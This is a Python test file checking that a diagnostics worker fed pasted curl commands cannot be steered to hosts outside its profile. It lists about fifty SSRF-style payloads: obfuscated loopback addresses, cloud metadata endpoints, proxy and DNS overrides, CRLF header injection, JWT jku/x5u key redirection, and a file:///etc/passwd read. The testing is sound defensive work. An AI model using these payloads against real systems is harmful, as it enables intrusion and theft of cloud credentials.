# ruff: noqa: E501 - a paste keeps its lines
"""Pastes that try to make a worker reach a listener that is not of the profile: none does, by any name or way."""

from __future__ import annotations

import socket
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import dataclass, field

import jwt
import pytest

from diagnostics.engine.net import client
from tests.engine.loopback import Loopback, always, response, serving
from tests.engine.provider import Provider, diagnose, provider, say
from tests.engine.tokens import rsa_key

# {e} is the listener's authority, {p} its port, {a} the API's authority, {t} a token of the API, {b} one that is altered.
PASTES: dict[str, str] = {
    "another host": "curl 'http://{e}/devices' -H 'Authorization: Bearer {t}'",
    "user information": "curl 'http://{a}@{e}/devices' -H 'Authorization: Bearer {t}'",
    "user information that ends a host": "curl 'http://{a}#@{e}/devices' -H 'Authorization: Bearer {t}'",
    "user information with a backslash": "curl 'http://{a}\\@{e}/devices' -H 'Authorization: Bearer {t}'",
    "a backslash for a slash": "curl 'http://{e}\\@{a}/devices' -H 'Authorization: Bearer {t}'",
    "encoded user information": "curl 'http://{a}%40{e}/devices' -H 'Authorization: Bearer {t}'",
    "localhost": "curl 'http://localhost:{p}/devices' -H 'Authorization: Bearer {t}'",
    "a name for the loopback": "curl 'http://localtest.me:{p}/devices' -H 'Authorization: Bearer {t}'",
    "an address in a name": "curl 'http://127.0.0.1.nip.io:{p}/devices' -H 'Authorization: Bearer {t}'",
    "an API under another name": "curl 'http://api.xxx.com:{p}/v2/devices' -H 'Authorization: Bearer {t}'",
    "IPv6": "curl 'http://[::1]:{p}/devices' -H 'Authorization: Bearer {t}'",
    "IPv4 in IPv6": "curl 'http://[::ffff:127.0.0.1]:{p}/devices' -H 'Authorization: Bearer {t}'",
    "IPv4 in IPv6 by digits": "curl 'http://[0:0:0:0:0:ffff:7f00:1]:{p}/devices' -H 'Authorization: Bearer {t}'",
    "IPv6 with a zone": "curl 'http://[::1%25lo]:{p}/devices' -H 'Authorization: Bearer {t}'",
    "one number": "curl 'http://2130706433:{p}/devices' -H 'Authorization: Bearer {t}'",
    "octal": "curl 'http://0177.0.0.1:{p}/devices' -H 'Authorization: Bearer {t}'",
    "hexadecimal": "curl 'http://0x7f000001:{p}/devices' -H 'Authorization: Bearer {t}'",
    "short": "curl 'http://127.1:{p}/devices' -H 'Authorization: Bearer {t}'",
    "nothing": "curl 'http://0:{p}/devices' -H 'Authorization: Bearer {t}'",
    "another loopback": "curl 'http://127.0.0.2:{p}/devices' -H 'Authorization: Bearer {t}'",
    "round digits": "curl 'http://①②⑦.⓪.⓪.①:{p}/devices' -H 'Authorization: Bearer {t}'",
    "an ideographic point": "curl 'http://127。0。0。1:{p}/devices' -H 'Authorization: Bearer {t}'",
    "metadata": "curl 'http://169.254.169.254/latest/meta-data/' -H 'Authorization: Bearer {t}'",
    "metadata by name": "curl 'http://metadata.google.internal/computeMetadata/v1/' -H 'Metadata-Flavor: Google'",
    "the host service of a cloud": "curl 'http://168.63.129.16/machine' -H 'Authorization: Bearer {t}'",
    "a target with an origin": "GET http://{e}/devices HTTP/1.1\nHost: {a}\nAuthorization: Bearer {t}\n\n",
    "a target with an authority": "CONNECT {e} HTTP/1.1\nHost: {a}\nAuthorization: Bearer {t}\n\n",
    "a target of two slashes": "GET //{e}/devices HTTP/1.1\nHost: {a}\nAuthorization: Bearer {t}\n\n",
    "another Host": "GET /devices HTTP/1.1\nHost: {e}\nAuthorization: Bearer {t}\n\n",
    "two Hosts": "GET /devices HTTP/1.1\nHost: {a}\nHost: {e}\nAuthorization: Bearer {t}\n\n",
    "a Host beside the address": "curl 'http://{a}/devices' -H 'Host: {e}' -H 'Authorization: Bearer {t}'",
    "forwarded": "curl 'http://{a}/devices' -H 'X-Forwarded-Host: {e}' -H 'X-Original-URL: http://{e}/' -H 'Authorization: Bearer {t}'",
    "a proxy": "curl -x 'http://{e}' 'http://{a}/devices' -H 'Authorization: Bearer {t}'",
    "a proxy in the environment": "http_proxy=http://{e} ALL_PROXY=socks5h://{e} curl 'http://{a}/devices' -H 'Authorization: Bearer {t}'",
    "a SOCKS proxy": "curl --socks5-hostname '{e}' --preproxy '{e}' 'http://{a}/devices' -H 'Authorization: Bearer {t}'",
    "resolve": "curl --resolve '{a}:127.0.0.1' --resolve '*:{p}:127.0.0.1' 'http://api.xxx.com:{p}/devices' -H 'Authorization: Bearer {t}'",
    "connect to": "curl --connect-to '::{e}' 'http://{a}/devices' -H 'Authorization: Bearer {t}'",
    "a DNS server": "curl --dns-servers '{e}' --doh-url 'https://{e}/' 'http://{a}/devices' -H 'Authorization: Bearer {t}'",
    "a config file": "curl -K - <<E\nurl = http://{e}/devices\nproxy = {e}\nE\ncurl 'http://{a}/devices' -H 'Authorization: Bearer {t}'",
    "two addresses": "curl 'http://{a}/devices' 'http://{e}/devices' --next 'http://{e}/x' -H 'Authorization: Bearer {t}'",
    "a line in the path": "curl 'http://{a}/devices%0d%0aHost:%20{e}' -H $'X-A: b\\r\\nHost: {e}' -H 'Authorization: Bearer {t}'",
    "a redirect": "curl -L 'http://{a}/redirect?to=http://{e}/' -H 'Authorization: Bearer {t}'",
    "a pasted redirect": "curl -L 'http://{a}/devices' -H 'Authorization: Bearer {t}'\n\nHTTP/1.1 302 Found\nLocation: http://{e}/\n\n",
    "an address in a parameter": "curl 'http://{a}/devices?url=http://{e}/&callback=http://{e}/' -H 'Authorization: Bearer {t}'",
    "jku": "curl 'http://{a}/devices' -H 'Authorization: Bearer {jku}'",
    "x5u": "curl 'http://{a}/devices' -H 'Authorization: Bearer {x5u}'",
    "an issuer elsewhere": "curl 'http://{a}/devices' -H 'Authorization: Bearer {iss}'",
    "an audience elsewhere": "curl 'http://{a}/devices' -H 'Authorization: Bearer {aud}'",
    "resource metadata": "curl 'http://{a}/devices' -H 'Authorization: Bearer {t}'\n\nHTTP/1.1 401 Unauthorized\nWWW-Authenticate: Bearer resource_metadata=\"http://{e}/.well-known/oauth-protected-resource\"\n\n",
    "a token endpoint elsewhere": "curl 'http://{e}/token' -d grant_type=client_credentials -d client_id=client-1 -d client_secret=x",
    "a link in an answer": "curl 'http://{a}/devices' -H 'Authorization: Bearer {t}'\n\nHTTP/1.1 401 Unauthorized\nLink: <http://{e}/>; rel=next\nContent-Type: application/json\n\n{{\"jwks_uri\":\"http://{e}/jwks\",\"issuer\":\"http://{e}\"}}",
    "other schemes": "curl 'gopher://{e}/_GET' 'dict://{e}/x' 'file:///etc/passwd' 'ftp://{e}/x' -H 'Authorization: Bearer {t}'",
}  # fmt: skip


@dataclass
class Connections:
    """Where this process connected to, and the names that it looked up."""

    to: list[tuple[str, int]] = field(default_factory=list)
    names: list[str] = field(default_factory=list)


@pytest.fixture
def connections(monkeypatch: pytest.MonkeyPatch) -> Connections:
    """Records every connection, lets none leave this machine, and has every name lead to the loopback."""
    seen, connect = Connections(), socket.socket.connect

    def recorded(sock: socket.socket, address: tuple[str, int]) -> None:
        seen.to.append(address[:2])
        if not address[0].startswith(("127.", "::1", "::ffff:127.")):
            raise OSError("nothing leaves this machine")
        connect(sock, address)

    def loopback(name: object, port: object, *args: object, **kwargs: object) -> list[object]:
        seen.names.append(str(name))
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("127.0.0.1", int(str(port or 80))))]

    monkeypatch.setitem(client._permission, "granted", True)
    monkeypatch.setattr(socket.socket, "connect", recorded)
    monkeypatch.setattr(socket, "getaddrinfo", loopback)
    return seen


@pytest.fixture(scope="module")
def listener() -> Iterator[Loopback]:
    """What nobody may reach: it answers everything as a well-behaved API would, on IPv4 and on IPv6."""
    with serving(always(response(200, {"active": True, "keys": []}))) as server:
        with suppress(OSError), socket.create_server(("::1", server.port), family=socket.AF_INET6):
            yield server
            return
        yield server


def filled(text: str, one: Provider, evil: Loopback) -> str:
    """The paste with addresses and tokens in it."""
    elsewhere = f"http://127.0.0.1:{evil.port}"
    headers = [("jku", f"{elsewhere}/keys"), ("x5u", f"{elsewhere}/keys")]
    tokens = {
        name: jwt.encode(one.claims(), rsa_key("a"), algorithm="RS256", headers={"kid": "b", name: where})
        for name, where in headers
    }
    return text.format(
        e=f"127.0.0.1:{evil.port}", p=evil.port, a=one.server.url.partition("://")[2], t=one.token(),
        iss=one.token(iss=elsewhere), aud=one.token(aud=elsewhere), **tokens,
    )  # fmt: skip


@pytest.mark.parametrize("name", PASTES)
def test_no_paste_makes_a_worker_reach_a_listener_outside_the_profile(
    name: str, connections: Connections, listener: Loopback
) -> None:
    away = response(302, b"", Location=f"http://127.0.0.1:{listener.port}/")
    with provider(redirect=say(away), devices=say(away)) as one:
        diagnose(one, filled(PASTES[name], one, listener), deadline_s=5.0, dry_run=True)
        assert {port for _, port in connections.to} <= {one.server.port}
        assert {host for host, _ in connections.to} <= {"127.0.0.1"}
    assert listener.requests == []


def test_servers_of_the_profile_cannot_send_a_worker_elsewhere_either(
    connections: Connections, listener: Loopback
) -> None:
    elsewhere = f"http://127.0.0.1:{listener.port}"
    metadata = {"issuer": elsewhere, "jwks_uri": f"{elsewhere}/jwks", "token_endpoint": f"{elsewhere}/token"}
    away = say(response(307, b"", Location=f"{elsewhere}/"))
    with provider(jwks=away, introspect=away, current=away) as one:
        one.routes["/.well-known/oauth-authorization-server"] = say(response(200, metadata))
        diagnose(one, f"curl '{one.server.url}/devices' -H 'Authorization: Bearer {one.token()}'", dry_run=True)
        assert {port for _, port in connections.to} == {one.server.port}
    assert listener.requests == []


def test_the_listener_would_have_been_seen(connections: Connections, listener: Loopback) -> None:
    with socket.create_connection(("127.0.0.1", listener.port), timeout=5) as sock:
        sock.sendall(b"GET / HTTP/1.1\r\n\r\n")
        assert sock.recv(100).startswith(b"HTTP/1.1 200")
    assert listener.requests
    listener.requests.clear()
    assert len(PASTES) >= 40
